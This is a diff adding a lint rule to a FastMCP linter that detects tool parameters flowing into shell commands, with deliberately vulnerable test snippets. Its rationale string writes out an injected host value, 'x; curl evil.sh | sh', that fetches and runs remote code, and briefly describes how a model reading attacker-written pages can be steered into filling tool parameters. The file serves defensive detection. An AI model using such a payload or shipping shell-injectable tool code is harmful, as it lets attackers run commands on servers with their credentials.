@@ -1,0 +1,142 @@
+"""FML901 shell-injection-from-tool-input."""
+
+from __future__ import annotations
+
+import libcst as cst
+
+from fastmcp_lint.api import Invalid, Rule, Valid
+from fastmcp_lint.model import call_label, keyword, positional
+
+#: Functions that always hand their command to a shell.
+_SHELL_FUNCTIONS = frozenset({
+    "os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
+    "asyncio.create_subprocess_shell",
+})
+#: Functions that use a shell only when called with `shell=True`.
+_SHELL_OPTION = frozenset({
+    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
+    "subprocess.Popen",
+})
+
+
+def _shell_true(call: cst.Call) -> bool:
+    arg = keyword(call, "shell")
+    return arg is not None and isinstance(arg.value, cst.Name) and arg.value.value == "True"
+
+
+class ShellInjectionFromToolInput(Rule):
+    """Tool input reaches a shell command."""
+
+    code = "FML901"
+    name = "shell-injection-from-tool-input"
+    severity = "error"
+    checklist = "(security)"
+    tags = ("security",)
+    security_severity = 9.0
+    summary = "tool input reaches a shell command"
+    what = (
+        "Finds, in the body of a tool, resource or prompt function, a value derived from its "
+        "parameters given as the command to `os.system`, `os.popen`, `subprocess.getoutput`, "
+        "`subprocess.getstatusoutput`, `asyncio.create_subprocess_shell`, or to "
+        "`subprocess.run/call/check_call/check_output/Popen` called with `shell=True`. A "
+        "value is derived when it is a parameter (not `self`, `cls` or the Context), or an "
+        "f-string, `+`/`%` building, `.format(...)`, `str(...)`, `os.path.join(...)` or "
+        "`Path(...)` with a derived part, a subscript, attribute or method call of a derived "
+        "value, or a local name assigned one earlier in the function. The result of any other "
+        "call is clean (`shlex.quote(host)`, a helper). Not reported: an argument list without "
+        "`shell=True`; a call after a comparison (`in`, `not in`, `==`, `!=`), a "
+        "`.startswith(...)` or a call of a function named like a check (`allow`, `safe`, "
+        "`valid`, `check`, `ensure`, `verify`, `sanitiz`) that mentions a value derived from "
+        "the same parameter. Reported at the call."
+    )
+    why = (
+        "The model fills tool parameters, and whoever writes the web page, issue or file the "
+        "model reads can steer it. A shell interprets `;`, `&&`, `$(...)` and backticks in "
+        "the command it is given, so `ping {host}` with the host `x; curl evil.sh | sh` runs "
+        "the attacker's commands on the server, with its credentials."
+    )
+    instead = (
+        "Run the program with an argument list and no shell "
+        "(`subprocess.run([\"ping\", \"-c\", \"1\", host])`, "
+        "`asyncio.create_subprocess_exec(...)`), so the input stays one argument; check "
+        "values against an allow-list before using them."
+    )
+    hint = "pass an argument list with `shell=False` (the default), and check the value first"
+    needles = ("system", "popen", "Popen", "getoutput", "getstatusoutput", "shell")
+
+    VALID = (
+        # An argument list without shell=True: the input stays one argument.
+        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+              "@mcp.tool\ndef ping(host: str) -> str:\n"
+              "    \"\"\"Ping a host.\"\"\"\n"
+              "    result = subprocess.run(['ping', '-c', '1', host], capture_output=True)\n"
+              "    return result.stdout.decode()\n"),
+        # An allow-list check before the shell.
+        Valid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\nSERVICES = "
+              "{'web', 'db'}\n\n@mcp.tool\ndef restart(service: str) -> int:\n"
+              "    if service not in SERVICES:\n        raise ValueError(service)\n"
+              "    return os.system(f'systemctl restart {service}')\n"),
+        # A sanitizer helper: its result is clean.
+        Valid("import shlex\nimport subprocess\nfrom fastmcp import FastMCP\n\n"
+              "mcp = FastMCP('x')\n\n@mcp.tool\ndef grep(pattern: str) -> str:\n"
+              "    quoted = shlex.quote(pattern)\n"
+              "    return subprocess.check_output(f'grep -r {quoted} .', shell=True).decode()\n"),
+        # A check named like one (validate_...) guards the later call.
+        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+              "@mcp.tool\ndef build(target: str) -> str:\n    validate_target(target)\n"
+              "    return subprocess.getoutput('make ' + target)\n"),
+        # Not a tool: a helper's parameters are not followed across functions.
+        Valid("import os\n\ndef run(command: str) -> int:\n    return os.system(command)\n"),
+        # Constant command; the parameter is only the working directory.
+        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+              "@mcp.tool\ndef status(repo: str) -> str:\n"
+              "    return subprocess.run('git status', shell=True, cwd=repo, text=True,\n"
+              "                          capture_output=True).stdout\n"),
+    )
+    INVALID = (
+        Invalid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+                "@mcp.tool\ndef ping(host: str) -> int:\n"
+                "    \"\"\"Ping a host.\"\"\"\n"
+                "    return os.system(f'ping -c 1 {host}')\n",
+                at=((9, 12),)),
+        Invalid("import subprocess as sp\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+                "@mcp.tool()\nasync def logs(unit: str, lines: int = 50) -> str:\n"
+                "    command = 'journalctl -u ' + unit\n"
+                "    command += f' -n {lines}'\n"
+                "    return sp.run(command, shell=True, capture_output=True, text=True).stdout\n",
+                at=((10, 12),)),
+        Invalid("import asyncio\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
+                "@mcp.tool\nasync def convert(name: str) -> None:\n"
+                "    cmd = 'convert {} out.png'.format(name.strip())\n"
+                "    proc = await asyncio.create_subprocess_shell(cmd)\n"
+                "    await proc.wait()\n",
+                at=((9, 18),)),
+        # The comparison is about another parameter: it does not guard `pattern`.
+        Invalid("from subprocess import getoutput\nfrom fastmcp import FastMCP\n\n"
+                "mcp = FastMCP('x')\n\n@mcp.tool\ndef search(pattern: str, mode: str) -> str:\n"
+                "    if mode == 'fast':\n        return getoutput('rg ' + pattern)\n"
+                "    return getoutput('grep -r ' + pattern)\n",
+                at=((9, 16), (10, 12))),
+    )
+
+    def visit_Call(self, node: cst.Call) -> None:
+        model = self.context.model
+        if not model.follows(node):
+            return
+        resolved = self.context.resolve(node.func)
+        if resolved in _SHELL_FUNCTIONS:
+            shell = ""
+        elif resolved in _SHELL_OPTION and _shell_true(node):
+            shell = ", shell=True"
+        else:
+            return
+        arg = positional(node, 0) or keyword(node, "args") or keyword(node, "cmd") or keyword(
+            node, "command")
+        if arg is None:
+            return
+        taint = model.taint_of(arg.value, node)
+        if taint is None or model.guarded(taint, node):
+            return
+        sink = f"the shell of `{call_label(node, resolved)}(...{shell})`"
+        self.report(node, taint.reaches(sink, self.context.line_of)
+                    + " with no allow-list check: the shell runs any command it contains")
